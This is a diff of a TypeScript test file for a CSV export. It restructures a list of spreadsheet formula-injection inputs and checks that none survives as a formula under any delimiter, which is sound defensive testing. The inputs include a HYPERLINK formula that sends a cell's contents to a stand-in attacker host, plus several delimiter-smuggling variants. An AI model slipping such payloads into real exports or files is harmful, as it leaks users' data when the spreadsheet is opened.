@@ -40,21 +40,29 @@ test('a Colombian spreadsheet opens the table in columns, with days and hours th
 });
 
 test.each([
-  ...['=1+1', '+57', '-1', '@SUM(A1)', '\t=1', '＝1+1', ' =1+1', '\r=1'],
-  ...[
-    'hola;=HYPERLINK("http://malo.example/?"&A2;"ver")',
-    'a,=1+1',
-    'a\t=1+1',
-    'a\n=1+1',
-    'a,"=1+1"',
-    '";=1+1',
-    '",=1+1',
-  ],
+  '=1+1',
+  '+57',
+  '-1',
+  '@SUM(A1)',
+  '\t=1',
+  '＝1+1',
+  ' =1+1',
+  '\r=1',
+  'hola;=HYPERLINK("http://malo.example/?"&A2;"ver")',
+  'a,=1+1',
+  'a\t=1+1',
+  'a\n=1+1',
+  'a,"=1+1"',
+  '";=1+1',
+  '",=1+1',
 ])('a spreadsheet reads no formula in %j, whatever its delimiter', (typed) => {
   for (const delimiter of [';', ',', '\t']) {
     for (const field of ['name', 'message']) {
       const rows: string[][] = parse(csvHeader + csvRows([{ ...ana, [field]: typed }]), {
-        ...{ delimiter, bom: true, relax_quotes: true, relax_column_count: true },
+        delimiter,
+        bom: true,
+        relax_quotes: true,
+        relax_column_count: true,
       });
       expect(rows.flat().filter((cell) => /^["\s]*[=+@＝-]/.test(cell))).toEqual([]);
     }
